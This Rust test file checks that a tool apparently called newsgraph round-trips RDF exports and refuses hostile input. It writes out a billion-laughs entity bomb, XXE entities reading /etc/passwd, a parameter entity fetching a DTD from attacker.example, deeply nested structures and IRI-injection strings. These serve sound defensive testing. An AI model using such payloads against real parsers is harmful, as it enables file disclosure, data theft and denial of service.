//! Hostile RDF: every RDF format `export` writes, parsed back by `load` and
//! by rdflib with the store's counts (the hostile corpus's graph, a store with
//! injection ids); `load` of entity bombs, external entities, 100,000-deep
//! nesting and IRIs that try to break out: refused with one line, nothing
//! stored, or loaded harmlessly, never a crash.

use std::path::Path;
use std::time::Instant;

use crate::hostile_corpus::LEDE;
use crate::util::*;

/// Quads of the named graphs, the store's counts graph aside.
const QUADS: &str = "SELECT (COUNT(*) AS ?n) WHERE { GRAPH ?g { ?s ?p ?o } FILTER (?g != <https://w3id.org/newsgraph/graph/stats>) }";
const DEFAULT_TRIPLES: &str = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }";

/// The RDF formats of `export`: name, file, whether it keeps named graphs,
/// and rdflib's name for it.
const FORMATS: [(&str, &str, bool, &str); 6] = [
    ("nquads", "all.nq", true, "nquads"),
    ("trig", "all.trig", true, "trig"),
    ("jsonld", "all.jsonld", true, "json-ld"),
    ("turtle", "all.ttl", false, "turtle"),
    ("ntriples", "all.nt", false, "nt"),
    ("rdfxml", "all.rdf", false, "xml"),
];

fn count_in(dir: &Path, store: &str, sparql: &str) -> u64 {
    let out = ok(newsgraph(dir).args(["query", "--store", store, "--format", "csv", "-e", sparql]));
    out.lines().nth(1).unwrap().trim().parse().unwrap()
}

/// Export the store `dir/db` in every RDF format; each file loads into a
/// fresh store with every quad (dataset formats) or every distinct triple
/// (triple formats), and rdflib reads the same numbers.
pub fn every_rdf_format_parses_back(dir: &Path) {
    let quads = count(dir, QUADS);
    let triples = count(dir, DISTINCT_DATA_TRIPLES);
    assert!(quads > 0 && triples > 0);
    // Dataset exports carry the store's counts too (`load` recounts them).
    let counts = count(
        dir,
        &format!("SELECT (COUNT(*) AS ?n) WHERE {{ GRAPH <{STATS_GRAPH}> {{ ?s ?p ?o }} }}"),
    );
    for (format, file, _, _) in FORMATS {
        ok(newsgraph(dir).args(["export", "--store", "db", "--format", format, "-o", file]));
    }
    for (format, file, dataset, _) in FORMATS {
        let store = format!("db-{format}");
        ok(newsgraph(dir).args(["load", "--store", &store, file]));
        let (query, want) = if dataset {
            (QUADS, quads)
        } else {
            (DEFAULT_TRIPLES, triples)
        };
        assert_eq!(count_in(dir, &store, query), want, "{format} via load");
    }
    let Some(python) = python_with("rdflib", true) else {
        return;
    };
    let mut script = String::from(
        "import rdflib\n\
         def n(path, fmt, dataset):\n\
         \x20   if dataset:\n\
         \x20       ds = rdflib.Dataset()\n\
         \x20       ds.parse(path, format=fmt)\n\
         \x20       return len({(s, p, o, g) for s, p, o, g in ds.quads((None, None, None, None))})\n\
         \x20   g = rdflib.Graph()\n\
         \x20   g.parse(path, format=fmt)\n\
         \x20   return len(g)\n",
    );
    for (format, file, dataset, rdflib) in FORMATS {
        let dataset = if dataset { "True" } else { "False" };
        script.push_str(&format!(
            "print('{format}=%d' % n('{file}', '{rdflib}', {dataset}))\n"
        ));
    }
    let report = run_python(&python, dir, &script);
    for (format, _, dataset, _) in FORMATS {
        let want = if dataset { quads + counts } else { triples };
        assert_eq!(figure(&report, format), want, "{format} via rdflib");
    }
}

/// `load` fails with one line, in bounded time, and stores nothing.
fn refused(dir: &Path, file: &str, content: &str, word: &str) {
    std::fs::write(dir.join(file), content).unwrap();
    let started = Instant::now();
    let store = format!("db-{file}");
    let out = fails(newsgraph(dir).args(["load", "--store", &store, file]));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(started.elapsed().as_secs() < 10, "{file}");
    assert_eq!(stderr.lines().count(), 1, "{file}: {stderr}");
    assert!(
        stderr.contains(file) && stderr.contains(word),
        "{file}: {stderr}"
    );
    if dir.join(&store).exists() {
        let held = count_in(dir, &store, DEFAULT_TRIPLES) + count_in(dir, &store, QUADS);
        assert_eq!(held, 0, "{file}: a refused file leaves nothing");
    }
}

/// `load` takes the file; returns the store's quad count.
fn loaded(dir: &Path, file: &str, content: &str) -> u64 {
    std::fs::write(dir.join(file), content).unwrap();
    let started = Instant::now();
    let store = format!("db-{file}");
    ok(newsgraph(dir).args(["load", "--store", &store, file]));
    assert!(started.elapsed().as_secs() < 60, "{file}");
    count_in(dir, &store, DEFAULT_TRIPLES) + count_in(dir, &store, QUADS)
}

fn rdf_xml(doctype: &str, value: &str) -> String {
    format!(
        "<?xml version=\"1.0\"?>\n{doctype}\n\
         <rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns:ex=\"http://example.org/\">\n\
         <rdf:Description rdf:about=\"http://example.org/a\"><ex:p>{value}</ex:p></rdf:Description>\n</rdf:RDF>\n"
    )
}

#[test]
fn entity_bombs_and_external_entities_are_refused_with_one_line() {
    let dir = tempdir();
    let d = dir.path();
    // 859 bytes that would expand to 3 GB.
    let mut dtd = String::from("<!ENTITY e0 \"lol\">");
    for i in 1..10 {
        dtd.push_str(&format!(
            "<!ENTITY e{i} \"{}\">",
            format!("&e{};", i - 1).repeat(10)
        ));
    }
    let bomb = rdf_xml(&format!("<!DOCTYPE rdf:RDF [{dtd}]>"), "&e9;");
    refused(d, "laughs.rdf", &bomb, "expands to more than");
    let passwd = "<!DOCTYPE rdf:RDF [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
    refused(d, "xxe.rdf", &rdf_xml(passwd, "&xxe;"), "external entities");
    let parameter =
        "<!DOCTYPE rdf:RDF [<!ENTITY % pe SYSTEM \"http://attacker.example/x.dtd\"> %pe;]>";
    refused(
        d,
        "xxe-parameter.rdf",
        &rdf_xml(parameter, "x"),
        "external entities",
    );
    // An external DTD is never fetched or read: its entities stay unknown.
    let external = "<!DOCTYPE rdf:RDF SYSTEM \"file:///etc/passwd\">";
    refused(d, "xxe-dtd.rdf", &rdf_xml(external, "&xxe;"), "xxe");
    assert_eq!(loaded(d, "dtd.rdf", &rdf_xml(external, "x")), 1);
    let stored = ok(newsgraph(d).args(["export", "--store", "db-dtd.rdf", "--format", "nquads"]));
    assert!(!stored.contains("root:"), "{stored}");
}

#[test]
fn deep_nesting_loads_or_is_refused_without_overflowing_the_stack() {
    let dir = tempdir();
    let d = dir.path();
    let n = 100_000;
    let nested = |open: &str, inner: &str, close: &str| {
        format!("{}{inner}{}", open.repeat(n), close.repeat(n))
    };
    let prefix = "@prefix : <http://example.org/> .\n";
    // Turtle and RDF/XML parsers keep their own stack: one triple per level.
    let ttl = format!("{prefix}:a :p {} .\n", nested("[ :p ", "\"x\"", " ]"));
    assert_eq!(loaded(d, "blank.ttl", &ttl), n as u64 + 1);
    let list = format!("{prefix}:a :p {} .\n", nested("( ", "\"x\"", " )"));
    assert_eq!(loaded(d, "list.ttl", &list), 2 * n as u64 + 1);
    let trig = format!(
        "{prefix}:g {{ :a :p {} . }}\n",
        nested("[ :p ", "\"x\"", " ]")
    );
    assert_eq!(loaded(d, "blank.trig", &trig), n as u64 + 1);
    let xml = rdf_xml(
        "",
        &nested("<rdf:Description><ex:p>", "x", "</ex:p></rdf:Description>"),
    );
    assert_eq!(loaded(d, "deep.rdf", &xml), n as u64 + 1);
    // Every format written back from such a store is flat (no recursion).
    for (format, file, _, _) in FORMATS {
        ok(newsgraph(d).args([
            "export",
            "--store",
            "db-list.ttl",
            "--format",
            format,
            "-o",
            file,
        ]));
    }
    // JSON-LD's parser stops at a depth limit with one line.
    let object = format!(
        "{{\"@id\":\"http://example.org/a\",\"http://example.org/p\":{}}}",
        nested("{\"http://example.org/p\":", "\"x\"", "}")
    );
    refused(d, "deep.jsonld", &object, "stack");
    let array = format!(
        "{{\"@id\":\"http://example.org/a\",\"http://example.org/p\":{{\"@list\":{}}}}}",
        nested("[", "\"x\"", "]")
    );
    refused(d, "list.jsonld", &array, "stack");
}

#[test]
fn injected_iris_are_refused_and_stored_ids_cannot_break_the_exports() {
    let dir = tempdir();
    let d = dir.path();
    // An id pasted into an IRI, in the subject and in the graph name; a space.
    let g = "<https://w3id.org/newsgraph/graph/entities>";
    refused(
        d,
        "inject.nq",
        &format!("<https://w3id.org/newsgraph/entity/evil> <http://attacker/x> \"x\"> <http://schema.org/name> \"y\" {g} .\n"),
        "line 1",
    );
    refused(
        d,
        "inject-graph.nq",
        &format!("<http://example.org/a> <http://example.org/p> \"ok\" {g} .\n<evil> <http://attacker/x> \"x\" {g} .\n"),
        "line 2",
    );
    refused(
        d,
        "space.nq",
        "<http://example.org/a b> <http://example.org/p> \"y\" .\n",
        "line 1",
    );
    // What can be loaded: an entity whose IRI holds the escaped injection and
    // whose names carry NUL, escape, direction and line characters; then
    // articles that mention the same person go in beside it.
    let evil =
        "<https://w3id.org/newsgraph/entity/evil%3E%20%3Chttp%3A%2F%2Fattacker%2Fx%3E%20%22x>";
    let names = [
        "\"evil> <http://attacker/x> \\\"x\"",
        "\"Sergue\\u0000\\u001B[31m\\u202Eï Lavrov\\n\\r\"@fr",
        "\"Sergueï Lavrov\"@fr",
    ];
    let mut nq: String = names
        .iter()
        .map(|n| format!("{evil} <http://www.w3.org/2000/01/rdf-schema#label> {n} {g} .\n"))
        .collect();
    nq.push_str(&format!("{evil} <https://w3id.org/newsgraph/ontology#id> \"evil> <http://attacker/x> \\\"x\" {g} .\n"));
    std::fs::write(d.join("evil.nq"), nq).unwrap();
    ok(newsgraph(d).args(["load", "--store", "db", "evil.nq"]));
    std::fs::write(d.join("a.txt"), LEDE).unwrap();
    std::fs::write(
        d.join("b.txt"),
        format!("{LEDE} Lavrov a parlé de \u{202E}evil> <http://attacker/x> \"x\"."),
    )
    .unwrap();
    ok_stderr(newsgraph(d).args(["ingest", "--store", "db", "--lang", "fr", "a.txt", "b.txt"]));
    every_rdf_format_parses_back(d);
}
